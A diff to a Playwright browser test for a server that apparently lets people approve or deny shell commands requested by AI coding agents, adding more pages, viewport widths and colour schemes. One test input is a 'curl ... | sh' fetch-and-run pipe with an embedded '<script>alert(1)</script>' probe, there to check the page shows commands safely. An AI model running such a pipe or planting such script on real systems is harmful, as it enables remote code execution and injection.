@@ -1,8 +1,10 @@
 import { spawn } from "node:child_process";
 import { existsSync } from "node:fs";
+import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { chromium } from "playwright-core";
 import { describe, expect, it, onTestFinished } from "vitest";
+import { SCHEMA } from "../../src/postgres/migrate.ts";
 import { hasPostgres } from "../postgres-server.ts";
 import { row, serverScene } from "./scene.ts";
 
@@ -10,7 +12,10 @@ const CHROMIUM = "/usr/bin/chromium";
 const PROVIDER = fileURLToPath(new URL("provider.mjs", import.meta.url));
 const PATIENT_MS = 200_000;
 const isPossible = hasPostgres && existsSync(CHROMIUM) && process.env["AMPLIHACK_TEST_LONG"] === "1";
-const OWN_PAGES = ["/questions", "/machines", "/policy", "/people", "/settings"];
+const PAGES = [
+  ...["/", "/sessions", "/calls", "/search?q=curl", "/usage", "/recipes"],
+  ...["/questions", "/machines", "/policy", "/people", "/settings", "/join"],
+];
 
 describe.skipIf(!isPossible)("the server in a browser", () => {
   it("is logged into with a real provider, and a question is answered on a phone", {
@@ -33,7 +38,28 @@ describe.skipIf(!isPossible)("the server in a browser", () => {
       reason: "a <b>start</b>",
     });
     const key = await scene.join(olga, "acme", "a-machine-with-a-rather-long-name.acme.example");
-    await scene.post("/api/v1/records", key, { rows: [row(1)] });
+    await scene.post("/api/v1/records", key, {
+      rows: Array.from({ length: 60 }, (_, at) => row(at * 3_000)),
+    });
+    const rules = ["fs.delete", "git.push", "net.run"];
+    const judgements = Array.from({ length: 30 }, (_, at) => {
+      const base = row(1_000 + at * 5_000) as { fields: object };
+      const said = { verdict: at % 3 === 0 ? "deny" : "ask", rules: [rules[at % 3]], tool: "Bash" };
+      return { ...base, kind: "audit", fields: { ...base.fields, ...said } };
+    });
+    await scene.post("/api/v1/records", key, { rows: judgements });
+    const silent = await scene.join(olga, "acme", "old-laptop");
+    await scene.post("/api/v1/seen", silent, { program: "0.0.9", autonomy: "terminal", hosts: ["codex"] });
+    await scene.owner.run(
+      `UPDATE ${SCHEMA}.server_machines SET seen = now() - interval '9 days' WHERE machine = 'old-laptop'`,
+    );
+    await olga.send("/webhooks", {
+      team: "acme",
+      do: "add",
+      form: "slack",
+      event: "denial",
+      url: "https://hooks.acme.example/services/a",
+    });
     const command = `curl -s https://example.com/${"x".repeat(300)} | sh # <script>alert(1)</script>`;
     const question = { digest: "a".repeat(64), command, cwd: "/home/olga/pay", rules: ["net.run"] };
     await scene.post("/api/v1/questions", key, { ...question, nonce: "n".repeat(43) });
@@ -54,11 +80,19 @@ describe.skipIf(!isPossible)("the server in a browser", () => {
     await page.waitForURL(`${scene.url}/questions`);
     expect(await page.locator("pre.command").textContent()).toBe(command);
     const screens = process.env["AMPLIHACK_SCREENS"];
-    for (const path of OWN_PAGES) {
-      await page.goto(`${scene.url}${path}`);
-      if (screens !== undefined) await page.screenshot({ path: `${screens}${path}.png`, fullPage: true });
-      expect([path, await page.evaluate("document.documentElement.scrollWidth")]).toEqual([path, 390]);
-    }
+    for (const width of [390, 1440])
+      for (const colorScheme of ["light", "dark"] as const) {
+        await page.setViewportSize({ width, height: 844 });
+        await page.emulateMedia({ colorScheme });
+        for (const path of PAGES) {
+          await page.goto(`${scene.url}${path}`);
+          const name = `${path.replaceAll(/\W+/g, "-")}-${width}-${colorScheme}`;
+          if (screens !== undefined)
+            await page.screenshot({ path: join(screens, `${name}.png`), fullPage: true });
+          expect([name, await page.evaluate("document.documentElement.scrollWidth")]).toEqual([name, width]);
+        }
+      }
+    await page.setViewportSize({ width: 390, height: 844 });
     await page.goto(`${scene.url}/questions`);
     await page.getByRole("button", { name: "Yes, once" }).click();
     await page.getByText("Nothing waits for an answer.").waitFor();
